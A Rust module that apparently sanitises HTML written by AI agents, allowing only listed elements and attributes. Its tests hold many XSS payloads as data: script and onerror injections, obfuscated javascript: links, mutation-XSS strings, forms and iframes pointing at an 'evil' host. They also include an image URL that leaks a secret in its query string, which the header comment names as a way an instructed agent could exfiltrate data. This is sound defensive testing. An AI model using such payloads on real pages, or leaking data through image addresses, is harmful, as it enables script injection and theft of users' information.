//! HTML of an agent's that a page may contain. Pure. Used by [`super::objects`].
//!
//! What is read token by token is written anew: only the elements and attributes below, everything else escaped or left out,
//! and each element closed. So it means the same to every browser, and takes time and memory linear in the text. A
//! sanitiser that builds the tree that browsers would has to repeat what is open wherever elements overlap: hundreds of
//! megabytes from some kilobytes.
//!
//! There are no images from elsewhere, only links to them: an agent that was told to could put what it knows in their
//! address, and the browser of each reader would send it.

use std::cell::RefCell;

use html5ever::{
    tendril::StrTendril,
    tokenizer::{
        BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states::RawKind,
    },
};

use super::push_escaped;

/// Elements that have an end.
const ELEMENTS: &str = "\
    a abbr b blockquote caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 \
    i ins kbd li mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot \
    th thead time tr tt u ul var center";
/// Elements that have none.
const VOID: &str = "br hr img";
/// Elements before which a paragraph ends.
const BLOCKS: &str = "blockquote center details div dl figure h1 h2 h3 h4 h5 h6 ol p pre table ul";
/// How deep elements may be in one another. Deeper ones are left out, their text is not.
const MAX_DEPTH: usize = 64;
/// Where a link may lead.
const SCHEMES: [&str; 3] = ["https://", "http://", "mailto:"];
/// What an image may be.
const IMAGES: [&str; 4] =
    ["data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,", "data:image/webp;base64,"];

/// The HTML without what could act, address the page around it, or ask anything of anybody.
pub fn safe(html: &str) -> String {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Writer::default(), options());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let Writer(written) = tokenizer.sink;
    let mut written = written.into_inner();
    written.close(0);
    written.html
}

/// The name as it stands in a list.
fn known(list: &'static str, name: &str) -> Option<&'static str> {
    list.split(' ').find(|known| *known == name)
}

fn options() -> TokenizerOpts {
    TokenizerOpts { discard_bom: false, ..TokenizerOpts::default() }
}

/// Writes what it is given.
#[derive(Default)]
struct Writer(RefCell<Written>);

#[derive(Default)]
struct Written {
    html: String,
    /// The elements that are open.
    open: Vec<&'static str>,
    /// Within an element whose content is no text.
    skips: bool,
}

impl TokenSink for Writer {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        let mut written = self.0.borrow_mut();
        match token {
            Token::CharacterTokens(text) if !written.skips => push_escaped(&mut written.html, &text),
            // The only one that ends such a content is its own.
            Token::TagToken(tag) if tag.kind == TagKind::EndTag && written.skips => written.skips = false,
            Token::TagToken(tag) if tag.kind == TagKind::EndTag => written.end(&tag.name),
            Token::TagToken(tag) => {
                if let Some(kind) = raw(&tag.name) {
                    written.skips = true;
                    return TokenSinkResult::RawData(kind);
                }
                written.start(&tag);
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Elements whose content is no HTML, and is left out.
fn raw(name: &str) -> Option<RawKind> {
    match name {
        "script" => Some(RawKind::ScriptData),
        "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => Some(RawKind::Rawtext),
        "title" | "textarea" => Some(RawKind::Rcdata),
        _ => None,
    }
}

impl Written {
    fn start(&mut self, tag: &Tag) {
        let name = &*tag.name;
        if known(VOID, name).is_some() {
            match name {
                "img" => self.image(tag),
                "hr" => {
                    self.close_paragraph("p");
                    self.html.push_str("<hr>");
                }
                _ => self.html.push_str("<br>"),
            }
            return;
        }
        let Some(name) = known(ELEMENTS, name) else { return };
        self.close_paragraph(name);
        if self.open.len() >= MAX_DEPTH {
            return;
        }
        self.open.push(name);
        self.html.push('<');
        self.html.push_str(name);
        if name == "a"
            && let Some(url) = attribute(tag, "href").and_then(|url| link(&url))
        {
            self.attribute("href", &url);
            self.attribute("rel", "nofollow noopener noreferrer");
        }
        let numbers: &[&str] = match name {
            "td" | "th" => &["colspan", "rowspan"],
            "ol" => &["start"],
            _ => &[],
        };
        for number in numbers {
            if let Some(value) = attribute(tag, number).filter(|value| is_number(value)) {
                self.attribute(number, &value);
            }
        }
        if let Some(title) = attribute(tag, "title") {
            self.attribute("title", &title);
        }
        self.html.push('>');
    }

    /// Closes what an element of that name ends without saying so.
    fn close_paragraph(&mut self, name: &str) {
        let ends = match self.open.last().copied() {
            Some("p") => known(BLOCKS, name).is_some(),
            Some("li") => name == "li",
            Some("dt" | "dd") => matches!(name, "dt" | "dd"),
            Some("td" | "th") => matches!(name, "td" | "th" | "tr"),
            _ => false,
        };
        if ends {
            self.close(self.open.len() - 1);
        }
        if name == "tr" && self.open.last() == Some(&"tr") {
            self.close(self.open.len() - 1);
        }
    }

    fn end(&mut self, name: &str) {
        if let Some(depth) = self.open.iter().rposition(|open| *open == name) {
            self.close(depth);
        }
    }

    /// Closes elements until so many are open.
    fn close(&mut self, depth: usize) {
        for name in self.open.drain(depth..).rev() {
            self.html.push_str("</");
            self.html.push_str(name);
            self.html.push('>');
        }
    }

    fn image(&mut self, tag: &Tag) {
        let source = attribute(tag, "src").unwrap_or_default();
        let text = attribute(tag, "alt").unwrap_or_default();
        if is_image(&source) {
            self.html.push_str("<img");
            self.attribute("src", &source);
            self.attribute("alt", &text);
            for number in ["width", "height"] {
                if let Some(value) = attribute(tag, number).filter(|value| is_number(value)) {
                    self.attribute(number, &value);
                }
            }
            self.html.push('>');
        } else if let Some(url) = link(&source).filter(|_| !self.open.contains(&"a")) {
            self.html.push_str("<a");
            self.attribute("href", &url);
            self.attribute("rel", "nofollow noopener noreferrer");
            self.html.push('>');
            push_escaped(&mut self.html, if text.is_empty() { &url } else { &text });
            self.html.push_str("</a>");
        } else {
            push_escaped(&mut self.html, &text);
        }
    }

    fn attribute(&mut self, name: &str, value: &str) {
        self.html.push(' ');
        self.html.push_str(name);
        self.html.push_str("=\"");
        for c in value.chars() {
            match c {
                '"' => self.html.push_str("&quot;"),
                c => push_escaped(&mut self.html, c.encode_utf8(&mut [0; 4])),
            }
        }
        self.html.push('"');
    }
}

fn attribute(tag: &Tag, name: &str) -> Option<String> {
    let found = tag.attrs.iter().find(|attribute| &*attribute.name.local == name);
    found.map(|attribute| attribute.value.to_string())
}

/// An address that may be followed. Browsers leave out control characters before they look at it.
fn link(url: &str) -> Option<String> {
    let url: String = url.trim().chars().filter(|c| !c.is_control()).collect();
    let start: String = url.chars().take(8).collect::<String>().to_ascii_lowercase();
    SCHEMES.iter().any(|scheme| start.starts_with(scheme)).then_some(url)
}

fn is_image(source: &str) -> bool {
    let data = IMAGES.iter().find_map(|prefix| source.strip_prefix(prefix));
    data.is_some_and(|data| data.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)))
}

fn is_number(value: &str) -> bool {
    !value.is_empty() && value.len() <= 4 && value.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
pub mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::fuzz::check;

    /// The tags in a text, as a browser reads it.
    #[derive(Default)]
    struct Tags(RefCell<Vec<Tag>>);

    impl TokenSink for Tags {
        type Handle = ();

        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(tag) = token {
                self.0.borrow_mut().push(tag);
            }
            TokenSinkResult::Continue
        }
    }

    /// What of this could act in a page, or reach beyond its place there.
    pub fn acts(html: &str) -> Option<String> {
        let input = BufferQueue::default();
        input.push_back(StrTendril::from(html));
        let tokenizer = Tokenizer::new(Tags::default(), options());
        let _ = tokenizer.feed(&input);
        tokenizer.end();
        let mut open = Vec::new();
        for tag in tokenizer.sink.0.into_inner() {
            let name = tag.name.to_string();
            if known(ELEMENTS, &name).or(known(VOID, &name)).is_none() {
                return Some(format!("<{name}>"));
            }
            for attribute in &tag.attrs {
                let (name, value) = (&*attribute.name.local, &*attribute.value);
                let fine = match name {
                    "href" => SCHEMES.iter().any(|scheme| value.to_lowercase().starts_with(scheme)),
                    "src" => value.starts_with("data:image/") && !value.starts_with("data:image/svg"),
                    "class" => ["info-", "ansi"].iter().any(|ours| value.starts_with(ours)),
                    "rel" | "title" | "alt" | "colspan" | "rowspan" | "start" | "width" | "height" => true,
                    _ => false,
                };
                if !fine {
                    return Some(format!("{name}={value:?}"));
                }
            }
            match tag.kind {
                _ if known(VOID, &name).is_some() => {}
                TagKind::StartTag => open.push(name),
                TagKind::EndTag if open.last() == Some(&name) => drop(open.pop()),
                TagKind::EndTag => return Some(format!("</{name}>")),
            }
        }
        (!open.is_empty()).then(|| format!("{open:?} open"))
    }

    #[test]
    fn what_is_harmless_stays() {
        for html in [
            "<h1>A</h1>\n<p>b <b>c</b> &amp; d &lt;e&gt;</p>",
            r#"<a href="https://example.com/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>"#,
            r#"<table><tbody><tr><td colspan="2">x</td><td>y</td></tr></tbody></table>"#,
            r#"<ol start="3"><li>a</li><li>b</li></ol>"#,
            r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" width="10">"#,
            "<p>a<br>b</p><hr>",
        ] {
            assert_eq!(safe(html), html);
        }
        assert_eq!(safe("<P CLASS=x ID=y STYLE='color:red'>a"), "<p>a</p>");
        assert_eq!(safe("a &copy; &#233; < b &x"), "a © é &lt; b &amp;x");
        assert_eq!(safe("<article><b>a</article>"), "<b>a</b>", "what is not known goes, its text stays");
    }

    #[test]
    fn what_could_act_goes() {
        for (html, expected) in [
            ("<script>alert(1)</script>x", "x"),
            ("<SCRIPT SRC=//evil></SCRIPT>x", "x"),
            ("<script>a<b>", ""),
            ("<style>*{}</style>x", "x"),
            ("<img src=x onerror=alert(1)>", ""),
            ("<b onmouseover=alert(1)>x</b>", "<b>x</b>"),
            ("<a href=javascript:alert(1)>x</a>", "<a>x</a>"),
            ("<a href='java&#115;cript&colon;alert(1)'>x</a>", "<a>x</a>"),
            ("<a href=' \u{1}java\nscript:alert(1)'>x</a>", "<a>x</a>"),
            ("<a href='data:text/html,x'>x</a>", "<a>x</a>"),
            ("<a href='/api/v1/executions'>x</a>", "<a>x</a>"),
            ("<svg><script>alert(1)</script><text>t</text></svg>", "t"),
            (
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<table></table>",
            ),
            ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "\"&gt;"),
            ("<iframe src=//evil></iframe><object data=x></object><embed src=x>", ""),
            ("<form action=//evil><input name=a><button>go</button></form>", "go"),
            ("<base href=//evil><meta http-equiv=refresh content=0><link rel=stylesheet href=x>", ""),
            ("<!-- <b> --><!DOCTYPE html><?x?><![CDATA[<b>]]>x", "]]&gt;x"),
            ("<template><b>x</template>", "<b>x</b>"),
            ("<title>t</title><textarea><b></textarea>x", "x"),
            (
                "<a href='https://x/\"onclick=y'>x</a>",
                "<a href=\"https://x/&quot;onclick=y\" rel=\"nofollow noopener noreferrer\">x</a>",
            ),
        ] {
            assert_eq!(safe(html), expected, "{html}");
        }
    }

    #[test]
    fn an_image_from_elsewhere_is_a_link() {
        let link = r#"<a href="https://evil/?q=secret" rel="nofollow noopener noreferrer">a</a>"#;
        assert_eq!(safe("<img src='https://evil/?q=secret' alt=a>"), link);
        assert_eq!(safe("<a href='x'><img src='https://evil/?q=secret' alt=a></a>"), "<a>a</a>");
        assert_eq!(safe("<img src='data:image/svg+xml;base64,AAAA' alt=a>"), "a");
        assert_eq!(safe("<img src='data:image/png;base64,\"x' alt=a>"), "a");
    }

    #[test]
    fn elements_are_closed_and_not_too_deep() {
        assert_eq!(safe("</div></div><div><b>a</div>b"), "<div><b>a</b></div>b");
        assert_eq!(safe("<p>a<p>b<ul><li>c<li>d</ul>"), "<p>a</p><p>b</p><ul><li>c</li><li>d</li></ul>");
        assert_eq!(
            safe("<table><tr><td>a<td>b<tr><td>c</table>"),
            "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"
        );
        let deep = safe(&"<div>x".repeat(10_000));
        assert_eq!((deep.matches("<div>").count(), deep.matches('x').count()), (MAX_DEPTH, 10_000));
        // A tree of this would have tens of millions of nodes.
        let overlapping: String =
            (0..5000).map(|n| format!("<b title={n}>")).collect::<String>() + &"</p><p>x".repeat(5000);
        assert!(safe(&format!("<p>{overlapping}")).len() < 3 * overlapping.len());
    }

    #[test]
    fn whatever_it_reads_it_writes_what_is_safe() {
        let html = prop_oneof![
            any::<String>(),
            concat!(
                "(<|>|/>|<a |<a href=|href=|<img |src=|alt=|title=|onload=|<b>|</b>|<p>|</p>|<li>|<td colspan=|<table>|</table>",
                "|<script>|</script>|<style>|<svg>|<title>|</title>|<noscript>|<xmp>|<!--|-->|&|;|\"|'|=| |\n|\u{0}|x",
                "|javascript:|&#106;avascript&colon;|https://x|data:image/png;base64,AA){0,40}"
            ),
        ];
        check("HTML that agents write", html, |html| {
            let found = safe(&html);
            if let Some(acts) = acts(&found) {
                prop_assert!(false, "{}: {}", acts, found);
            }
            prop_assert_eq!(safe(&found), found);
            Ok(())
        });
    }
}
